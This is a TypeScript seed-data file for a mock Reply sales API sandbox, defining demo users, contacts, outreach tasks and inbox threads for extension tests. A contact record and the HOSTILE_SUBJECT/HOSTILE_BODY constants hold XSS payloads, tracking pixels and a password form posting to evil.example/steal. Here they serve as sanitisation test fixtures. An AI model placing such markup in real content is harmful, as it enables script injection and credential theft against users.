// The sandbox's seed data. Dates are relative to the moment of seeding so that "due" and
// "overdue" stay true whenever the tests run.

import { CreationSource, LinkedInTaskType, TaskStatus, TaskType } from './enums';

export interface User {
  id: number;
  username: string;
  apiKey: string;
  /** A user in several teams must name one with X-TEAM-ID on every call but whoami. */
  teams?: { teamId: number; teamName: string }[];
}

export interface Contact {
  id: number;
  email: string;
  phone: string;
  firstName: string;
  lastName: string;
  company: string | null;
  linkedInUrl: string | null;
  /** Opted out: must not be written to (the extension checks; the sandbox would still send). */
  optedOut?: boolean;
}

/** An inbox thread as Reply's `POST /v3/inbox/threads/filter` lists it. */
export interface Thread {
  id: number;
  contactId: number;
  subject: string;
  bodyPreview: string;
  lastActivityDate: string;
  /** Holds a message from the contact (Reply's `source: "inbox"`). */
  hasInbound: boolean;
}

export interface EmailAccount {
  id: number;
  ownerUserId: number;
  email: string;
  senderName: string;
  isDefault: boolean;
  connectionStatus: string;
  signature: string;
}

export interface TaskTemplate {
  subject: string | null;
  body: string;
  attachmentIdList: number[];
}

export interface DeliveryInfo {
  email: string | null;
  phoneNumber: string | null;
  linkedInUrl: string | null;
}

/** A task as the sandbox stores it: the API's full task with integer enums and no `content`. */
export interface Task {
  id: number;
  contactId: number | null;
  taskType: number;
  status: number;
  linkedInTaskType: number | null;
  sequenceId: number | null;
  sequenceStepId: number | null;
  sequenceStepDisplayName: string | null;
  assignedUserId: number;
  creationSource: number;
  createdAt: string;
  startAt: string;
  dueTo: string;
  finishedAt: string | null;
  isFailed: boolean;
  isScheduled: boolean;
  template: TaskTemplate;
  deliveryInfo: DeliveryInfo | null;
  /** For a user in several teams: the team the task belongs to. */
  teamId?: number;
}

export interface World {
  contacts: Contact[];
  tasks: Map<number, Task>;
  emailAccounts: EmailAccount[];
  threads: Thread[];
}

export const SANDBOX_API_KEY = 'demo-key-1001';
/** A second user's key: that user's task (109) answers 403 to the first key and vice versa. */
export const SANDBOX_OTHER_API_KEY = 'demo-key-2002';

export const DEMO_USER: User = {
  id: 1001,
  username: 'demo.rep@example.com',
  apiKey: SANDBOX_API_KEY,
};
export const OTHER_USER: User = {
  id: 2002,
  username: 'other.rep@example.com',
  apiKey: SANDBOX_OTHER_API_KEY,
};
/** A user in two Reply teams (an agency): every call but whoami must name the team. */
export const SANDBOX_TEAMS_API_KEY = 'demo-key-3003';
export const TEAMS_USER: User = {
  id: 3003,
  username: 'agency.rep@example.com',
  apiKey: SANDBOX_TEAMS_API_KEY,
  teams: [
    { teamId: 501, teamName: 'Northwind Agency' },
    { teamId: 502, teamName: 'Contoso Outreach' },
  ],
};
/** A rep whose day is five tasks of five types, all overdue (so due today at any hour). */
export const SANDBOX_QUEUE_API_KEY = 'demo-key-4004';
export const QUEUE_USER: User = {
  id: 4004,
  username: 'queue.rep@example.com',
  apiKey: SANDBOX_QUEUE_API_KEY,
};
export const USERS: readonly User[] = [DEMO_USER, OTHER_USER, TEAMS_USER, QUEUE_USER];

/** Mail to this domain bounces, so executing a task addressed there ends with isFailed. */
export const BOUNCING_DOMAIN = 'bounce.example';

const CONTACTS: readonly Contact[] = [
  contact(1, 'Jane', 'Doe', 'jane.doe@example.com', '+1 555 0100', 'Acme'),
  contact(2, 'John', 'Roe', 'john.roe@example.com', '+1 555 0101', 'Globex'),
  contact(3, 'Maria', 'Garcia', 'maria.garcia@example.org', '+1 555 0102', 'Initech'),
  // No company: {{company}} renders empty.
  contact(4, 'Li', 'Wei', 'li.wei@example.net', '+1 555 0103', null),
  // Mixed-case address, to prove email lookups ignore case.
  contact(5, 'Priya', 'Patel', 'Priya.Patel@Example.com', '+44 20 7946 0104', 'Umbrella Ltd'),
  contact(6, 'Sam', 'Nobody', `sam.nobody@${BOUNCING_DOMAIN}`, '+1 555 0199', 'Defunct Corp'),
  contact(7, 'Alex', 'Kim', 'alex.kim@example.com', '+1 555 0105', 'Hooli'),
  // Contact data is attacker-controlled too: it flows into rendered content and fullName.
  contact(
    8,
    'Mallory',
    '<img src=x onerror="alert(\'lastName\')">',
    'mallory@example.com',
    '+1 555 0106',
    'Evil <b>Corp</b>',
  ),
  // Listed before Ada, and her address holds Ada's (ada.byron@example.com): a lookup that
  // takes the first contact Reply's containment search returns would show her tasks on Ada's
  // record.
  contact(
    16,
    'Augusta',
    'King',
    'lady.ada.byron@example.com',
    '+44 20 7946 0016',
    'Analytical Engines',
  ),
  // The people on the CRM fixture pages (tests/fixtures/sites), found by the CRM panels.
  contact(9, 'Ada', 'Byron', 'ada.byron@example.com', '+44 20 7946 0018', 'Analytical Engines'),
  contact(10, 'Marie', 'Curie', 'marie.curie@example.com', '+33 1 44 27 00 00', 'Curie Labs'),
  contact(
    11,
    'Marta',
    'Kowalska',
    'marta.kowalska@nordlicht.example',
    '+48 22 000 00 00',
    'Nordlicht',
  ),
  // A second contact with Marie Curie's address (a duplicate import): both must be shown.
  contact(17, 'Marie', 'Skłodowska', 'marie.curie@example.com', '+48 22 000 01 17', 'Sorbonne'),
  // Opted out: her task must never be sent.
  {
    ...contact(18, 'Otto', 'Optout', 'otto.optout@example.com', '+1 555 0118', 'Nope Inc'),
    optedOut: true,
  },
  // Wrote back after her task was made (see the threads): ask before sending.
  contact(19, 'Rita', 'Replied', 'rita.replied@example.com', '+1 555 0119', 'Answered Ltd'),
  // In Reply, but with nothing pending.
  contact(12, 'Grace', 'Hopper', 'grace.hopper@navy.example', '(202) 555-0143', 'US Navy'),
  // Recipients of the mailbox fixtures' drafts.
  contact(13, 'Bob', 'Stone', 'bob.stone@example.org', '+1 555 0113', 'Stone & Co'),
  contact(14, 'Maria', 'Anders', 'Maria.Anders@alfreds.example', '+49 30 000 0014', 'Alfreds'),
  contact(15, 'Olivia', 'Chen', 'olivia.chen@contoso.com', '+1 555 0115', 'Contoso'),
];

const HOSTILE_SUBJECT = 'Re: your order </div><script>alert("subject")</script>';
const HOSTILE_BODY = [
  '<p>Hi {{firstName}},</p>',
  '<img src=x onerror="alert(1)">',
  "<script>alert('body')</script>",
  '<p>Tracking <img src="https://tracker.example/p.gif" width="1" height="1"></p>',
  '<p style="background:url(https://tracker.example/bg.png)">Styled paragraph</p>',
  '<p><a href="javascript:alert(1)">Click here</a> or see <a href="https://example.com/pricing">pricing</a>.</p>',
  '<style>* { display: none !important; }</style>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
].join('\n');

// The bulk "due queue" tasks 201-230 cycle through these. {{calendarLink}} is not a variable
// the sandbox knows, so rendering leaves it as written.
const QUEUE_CONTACT_IDS = [1, 2, 3, 4, 5];
const QUEUE_EMAILS: readonly TaskTemplate[] = [
  email(
    '{{firstName}}, a quick idea for {{company}}',
    '<p>Hi {{firstName}},</p><p>I had a quick idea for {{company}}. Worth a chat?</p>',
  ),
  email('Following up', '<p>Hi {{firstName}},</p><p>Just following up on my last note.</p>'),
  email(
    'Time next week?',
    '<p>Hi {{firstName}},</p><p>Would any slot here work: {{calendarLink}}</p>',
  ),
];
const QUEUE_SMS: readonly TaskTemplate[] = [
  sms('Hi {{firstName}}, did you see my email? - Demo'),
  sms('Hi {{firstName}}, quick call today about {{company}}?'),
];

export function seedWorld(now: number, queueSize = 30): World {
  const at = (hours: number) => new Date(now + hours * 3_600_000).toISOString();
  const contacts = CONTACTS.map((c) => ({ ...c }));
  const contactsById = new Map(contacts.map((c) => [c.id, c]));

  const tasks = new Map<number, Task>();
  const endOfDay = new Date(now);
  endOfDay.setHours(23, 59, 59, 999);
  const hoursLeftToday = (endOfDay.getTime() - now) / 3_600_000;
  for (const { dueInHours, ...fields } of taskSeeds(at, hoursLeftToday, queueSize)) {
    const to = fields.contactId === null ? undefined : contactsById.get(fields.contactId);
    tasks.set(fields.id, {
      linkedInTaskType: null,
      sequenceId: null,
      sequenceStepId: null,
      sequenceStepDisplayName: null,
      assignedUserId: DEMO_USER.id,
      creationSource: fields.sequenceId ? CreationSource.sequence : CreationSource.user,
      status: TaskStatus.new,
      finishedAt: null,
      isFailed: false,
      isScheduled: false,
      ...fields,
      createdAt: at(dueInHours - 48),
      startAt: at(dueInHours - 3),
      dueTo: at(dueInHours),
      deliveryInfo: deliveryInfo(fields.taskType, to),
    });
  }

  return {
    contacts,
    tasks,
    threads: [
      {
        id: 9001,
        contactId: 19,
        subject: 'Re: Checking in',
        bodyPreview: 'Thanks, but we went with another vendor.\nBest, Rita',
        // After her task was made.
        lastActivityDate: at(-1),
        hasInbound: true,
      },
      {
        id: 9002,
        contactId: 1,
        subject: 'Intro',
        bodyPreview: 'Sounds good, talk soon.',
        // Jane wrote long before any of her tasks were made: no reason to hold them.
        lastActivityDate: at(-24 * 30),
        hasInbound: true,
      },
      {
        id: 9003,
        contactId: 2,
        subject: 'Proposal',
        bodyPreview: 'Our note to John, no answer yet.',
        lastActivityDate: at(-2),
        hasInbound: false,
      },
    ],
    emailAccounts: [
      account(1, DEMO_USER, 'Demo Rep', true),
      account(2, DEMO_USER, 'Example Sales', false, 'sales@example.com'),
      account(3, OTHER_USER, 'Other Rep', true),
      account(4, TEAMS_USER, 'Agency Rep', true, 'agency.rep@example.com'),
    ],
  };
}

/** The minimum that makes a task; anything else of Task may be given to override a default. */
type TaskSeed = Pick<Task, 'id' | 'taskType' | 'contactId' | 'template'> &
  Partial<Task> & {
    /** dueTo relative to now; negative means overdue. */
    dueInHours: number;
  };

const SEQUENCE_EMAIL_STEP = {
  sequenceId: 11,
  sequenceStepId: 1102,
  sequenceStepDisplayName: 'Step 2 - Email',
};
const SEQUENCE_SMS_STEP = {
  sequenceId: 12,
  sequenceStepId: 1203,
  sequenceStepDisplayName: 'Step 3 - SMS',
};

function taskSeeds(
  at: (hours: number) => string,
  hoursLeftToday: number,
  queueSize: number,
): TaskSeed[] {
  const seeds: TaskSeed[] = [
    {
      id: 101,
      taskType: TaskType.manualEmail,
      contactId: 1,
      dueInHours: 2,
      ...SEQUENCE_EMAIL_STEP,
      template: email(
        'Quick question, {{firstName}}',
        '<p>Hi {{firstName}},</p><p>I noticed {{company}} is growing its sales team. Would a 15-minute call next week make sense?</p><p>Best,<br>Demo</p>',
      ),
    },
    {
      id: 102,
      taskType: TaskType.manualEmail,
      contactId: 2,
      dueInHours: -26,
      template: email(
        'Following up on our chat',
        '<p>Hi {{firstName}} {{lastName}},</p><p>Thanks for the call. As promised, here is the proposal for {{company}}.</p>',
      ),
    },
    {
      id: 103,
      taskType: TaskType.sms,
      contactId: 1,
      dueInHours: 1,
      ...SEQUENCE_SMS_STEP,
      template: sms('Hi {{firstName}}, this is Demo from Example Co. Do you have 5 minutes today?'),
    },
    {
      id: 104,
      taskType: TaskType.call,
      contactId: 2,
      dueInHours: 3,
      template: { subject: null, body: 'Ask about the Q3 budget.', attachmentIdList: [] },
    },
    {
      id: 105,
      taskType: TaskType.manualEmail,
      contactId: 3,
      dueInHours: -30,
      status: TaskStatus.finished,
      finishedAt: at(-24),
      // Finished tasks keep the final content, not the raw template.
      template: email(
        'Intro for Maria',
        '<p>Hi Maria,</p><p>Great to meet you at the conference.</p>',
      ),
    },
    {
      id: 106,
      taskType: TaskType.manualEmail,
      contactId: 8,
      dueInHours: 4,
      template: email(HOSTILE_SUBJECT, HOSTILE_BODY),
    },
    {
      id: 107,
      taskType: TaskType.manualEmail,
      contactId: 6,
      dueInHours: 5,
      template: email('Checking in, {{firstName}}', '<p>Hi {{firstName}},</p><p>Checking in.</p>'),
    },
    {
      id: 108,
      taskType: TaskType.linkedIn,
      linkedInTaskType: LinkedInTaskType.connect,
      contactId: 4,
      dueInHours: 6,
      sequenceId: 11,
      sequenceStepId: 1104,
      sequenceStepDisplayName: 'Step 4 - LinkedIn',
      template: { subject: null, body: 'Hi {{firstName}}, let us connect.', attachmentIdList: [] },
    },
    {
      id: 109,
      taskType: TaskType.manualEmail,
      contactId: 7,
      dueInHours: 2,
      assignedUserId: OTHER_USER.id,
      template: email('Hello {{firstName}}', '<p>Hi {{firstName}},</p><p>From the other rep.</p>'),
    },
    // Due today but long overdue (last in the due list): Otto opted out, Rita replied since.
    {
      id: 110,
      taskType: TaskType.manualEmail,
      contactId: 18,
      dueInHours: -20,
      template: email('Still interested, {{firstName}}?', '<p>Hi {{firstName}},</p>'),
    },
    {
      id: 111,
      taskType: TaskType.manualEmail,
      contactId: 19,
      dueInHours: -21,
      template: email('Checking in, {{firstName}}', '<p>Hi {{firstName}},</p><p>Any news?</p>'),
    },
    // The agency user's tasks, one in each of their teams; an hour overdue, so due today at
    // whatever hour the sandbox starts.
    {
      id: 601,
      taskType: TaskType.manualEmail,
      contactId: 2,
      dueInHours: -1,
      assignedUserId: TEAMS_USER.id,
      teamId: 501,
      template: email('Northwind, {{firstName}}', '<p>Hi {{firstName}},</p><p>From Northwind.</p>'),
    },
    {
      id: 602,
      taskType: TaskType.manualEmail,
      contactId: 3,
      dueInHours: -1,
      assignedUserId: TEAMS_USER.id,
      teamId: 502,
      template: email('Contoso, {{firstName}}', '<p>Hi {{firstName}},</p><p>From Contoso.</p>'),
    },
    {
      // Due in two days: never in today's list, so no "send all" run takes it (the update
      // test keeps a draft of it across an update).
      id: 112,
      taskType: TaskType.manualEmail,
      contactId: 6,
      dueInHours: 48,
      template: email(
        'Next week, {{firstName}}',
        '<p>Hi {{firstName}},</p><p>Next week works.</p>',
      ),
    },
  ];

  // The queue rep's day (tests/e2e/queue.test.ts): one task of each kind, an hour apart and all
  // overdue, so the queue's order (earliest due first) is 701…705 whenever the tests run.
  const queueRep = { assignedUserId: QUEUE_USER.id };
  seeds.push(
    {
      id: 701,
      taskType: TaskType.manualEmail,
      contactId: 1,
      dueInHours: -5,
      ...SEQUENCE_EMAIL_STEP,
      ...queueRep,
      template: email('Your day, {{firstName}}', '<p>Hi {{firstName}},</p><p>A quick note.</p>'),
    },
    {
      id: 702,
      taskType: TaskType.sms,
      contactId: 2,
      dueInHours: -4,
      ...SEQUENCE_SMS_STEP,
      ...queueRep,
      template: sms('Hi {{firstName}}, a quick text from Demo.'),
    },
    {
      id: 703,
      taskType: TaskType.call,
      contactId: 3,
      dueInHours: -3,
      ...queueRep,
      template: { subject: null, body: 'Ask Maria about the rollout.', attachmentIdList: [] },
    },
    {
      id: 704,
      taskType: TaskType.linkedIn,
      linkedInTaskType: LinkedInTaskType.message,
      contactId: 4,
      dueInHours: -2,
      ...queueRep,
      template: {
        subject: null,
        body: 'Hi {{firstName}}, thanks for connecting.',
        attachmentIdList: [],
      },
    },
    {
      id: 705,
      taskType: TaskType.toDo,
      contactId: 7,
      dueInHours: -1,
      ...queueRep,
      template: { subject: null, body: 'Prepare the proposal for Alex.', attachmentIdList: [] },
    },
  );

  // The CRM people's pending tasks: Ada has two executable ones (and a call, never listed),
  // Marie and Marta one each.
  seeds.push(
    {
      id: 301,
      taskType: TaskType.manualEmail,
      contactId: 9,
      dueInHours: 1,
      ...SEQUENCE_EMAIL_STEP,
      template: email(
        'Engines, {{firstName}}?',
        '<p>Hi {{firstName}},</p><p>About the engine.</p>',
      ),
    },
    {
      id: 302,
      taskType: TaskType.sms,
      contactId: 9,
      dueInHours: 3,
      ...SEQUENCE_SMS_STEP,
      template: sms('Hi {{firstName}}, quick call today?'),
    },
    { id: 303, taskType: TaskType.call, contactId: 9, dueInHours: 4, template: email('', '') },
    // Augusta's (whose address contains Ada's) and the second Marie Curie's.
    {
      id: 306,
      taskType: TaskType.manualEmail,
      contactId: 16,
      dueInHours: 1,
      template: email('For Augusta only', '<p>Hi {{firstName}},</p>'),
    },
    {
      id: 307,
      taskType: TaskType.manualEmail,
      contactId: 17,
      dueInHours: 3,
      template: email('For the other Marie', '<p>Hi {{firstName}},</p>'),
    },
    {
      id: 304,
      taskType: TaskType.manualEmail,
      contactId: 10,
      dueInHours: 2,
      template: email('Radium, {{firstName}}', '<p>Hi {{firstName}},</p><p>Following up.</p>'),
    },
    {
      id: 305,
      taskType: TaskType.sms,
      contactId: 11,
      dueInHours: 2,
      ...SEQUENCE_SMS_STEP,
      template: sms('Hi {{firstName}}, got a minute?'),
    },
  );

  // The mailbox recipients' pending tasks: Bob one email; Maria an email and an SMS (never
  // offered for a draft); Olivia one email.
  seeds.push(
    {
      id: 401,
      taskType: TaskType.manualEmail,
      contactId: 13,
      dueInHours: 1,
      ...SEQUENCE_EMAIL_STEP,
      template: email('Hello {{firstName}}', '<p>Template body for Bob.</p>'),
    },
    {
      id: 402,
      taskType: TaskType.manualEmail,
      contactId: 14,
      dueInHours: 2,
      template: email('Order follow-up', '<p>Template body for Maria.</p>'),
    },
    { id: 403, taskType: TaskType.sms, contactId: 14, dueInHours: 2, template: sms('Hi Maria') },
    {
      id: 404,
      taskType: TaskType.manualEmail,
      contactId: 15,
      dueInHours: 2,
      ...SEQUENCE_EMAIL_STEP,
      template: email('Hello {{firstName}}', '<p>Template body for Olivia.</p>'),
    },
  );

  // The "due queue": 30 (or `queueSize`) new email/SMS tasks, the first eight overdue, the rest
  // due every half hour or closer, so all are due today whenever the sandbox starts; every
  // fourth one is a one-off, the others come from sequences. Past 30, ids go on from 1031.
  const spacing = Math.min(0.5, hoursLeftToday / Math.max(1, queueSize - 7));
  let emails = 0;
  let texts = 0;
  for (let i = 0; i < queueSize; i++) {
    const isSms = i % 3 === 2;
    seeds.push({
      id: i < 30 ? 201 + i : 1001 + i,
      taskType: isSms ? TaskType.sms : TaskType.manualEmail,
      contactId: cycle(QUEUE_CONTACT_IDS, i),
      dueInHours: i < 8 ? (i - 8) * 0.5 + 0.25 : (i - 7) * spacing,
      ...(i % 4 === 0 ? {} : isSms ? SEQUENCE_SMS_STEP : SEQUENCE_EMAIL_STEP),
      isScheduled: i === queueSize - 1,
      template: { ...(isSms ? cycle(QUEUE_SMS, texts++) : cycle(QUEUE_EMAILS, emails++)) },
    });
  }
  return seeds;
}

function cycle<T>(list: readonly T[], i: number): T {
  const item = list[i % list.length];
  if (item === undefined) throw new Error('cycle() needs a non-empty list');
  return item;
}

function contact(
  id: number,
  firstName: string,
  lastName: string,
  email: string,
  phone: string,
  company: string | null,
): Contact {
  const slug = `${firstName}-${lastName}`.toLowerCase().replace(/[^a-z-]/g, '');
  const linkedInUrl = `https://www.linkedin.com/in/${slug}`;
  return { id, email, phone, firstName, lastName, company, linkedInUrl };
}

function account(
  id: number,
  owner: User,
  senderName: string,
  isDefault: boolean,
  email = owner.username,
): EmailAccount {
  const signature = `<p>--<br>${senderName}</p>`;
  return {
    id,
    ownerUserId: owner.id,
    email,
    senderName,
    isDefault,
    connectionStatus: 'connected',
    signature,
  };
}

function email(subject: string, body: string): TaskTemplate {
  return { subject, body, attachmentIdList: [] };
}

function sms(body: string): TaskTemplate {
  return { subject: null, body, attachmentIdList: [] };
}

/** Where a task goes: email for ManualEmail, phone for Call/SMS, URL for LinkedIn. */
function deliveryInfo(taskType: number, to: Contact | undefined): DeliveryInfo | null {
  if (!to) return null;
  const none = { email: null, phoneNumber: null, linkedInUrl: null };
  switch (taskType) {
    case TaskType.manualEmail:
      return { ...none, email: to.email };
    case TaskType.call:
    case TaskType.sms:
      return { ...none, phoneNumber: to.phone };
    case TaskType.linkedIn:
      return { ...none, linkedInUrl: to.linkedInUrl };
    default:
      return null;
  }
}
